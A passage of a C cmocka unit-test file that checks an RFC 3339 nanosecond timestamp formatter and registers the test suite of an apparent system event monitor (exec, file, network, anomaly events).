	assert_int_equal(format_rfc3339(0, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "1970-01-01T00:00:00.000000000Z");
	assert_int_equal(format_rfc3339(TEST_REALTIME_NS, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:05.123456789Z");
	assert_int_equal(format_rfc3339(1000000001ULL, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "1970-01-01T00:00:01.000000001Z");
	assert_int_equal(format_rfc3339(TEST_REALTIME_NS, buf, 30), -ENOSPC);
	/* the second's text is cached: the same second, other nanoseconds,
	 * then the next second and a year boundary */
	assert_int_equal(format_rfc3339(TEST_REALTIME_NS - 123456789, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:05.000000000Z");
	assert_int_equal(format_rfc3339(TEST_REALTIME_NS + 876543210, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:05.999999999Z");
	assert_int_equal(format_rfc3339(TEST_REALTIME_NS + 876543211, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-02T03:04:06.000000000Z");
	assert_int_equal(format_rfc3339(1767225599999999999ULL, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2025-12-31T23:59:59.999999999Z");
	assert_int_equal(format_rfc3339(1767225600000000000ULL, buf, sizeof(buf)), 0);
	assert_string_equal(buf, "2026-01-01T00:00:00.000000000Z");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_exec),
	    cmocka_unit_test(test_exec_failed),
	    cmocka_unit_test(test_anomaly_sigma),
	    cmocka_unit_test(test_file_escapes),
	    cmocka_unit_test(test_file_unterminated),
	    cmocka_unit_test(test_file_normalized),
	    cmocka_unit_test(test_file_created),
	    cmocka_unit_test(test_file_resolved),
	    cmocka_unit_test(test_file_enoent),
	    cmocka_unit_test(test_network_connect4),
	    cmocka_unit_test(test_network_bind6),
	    cmocka_unit_test(test_network_socket_raw),
	    cmocka_unit_test(test_cgroup),
	    cmocka_unit_test(test_syscall),
	    cmocka_unit_test(test_anomaly),
	    cmocka_unit_test(test_anomaly_file_violation),
	    cmocka_unit_test(test_process_fork_exit),
	    cmocka_unit_test(test_utf8_clean),
	    cmocka_unit_test(test_utf8_clean_small_buffer),
	    cmocka_unit_test(test_path_normalize),
	    cmocka_unit_test(test_format_rfc3339),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
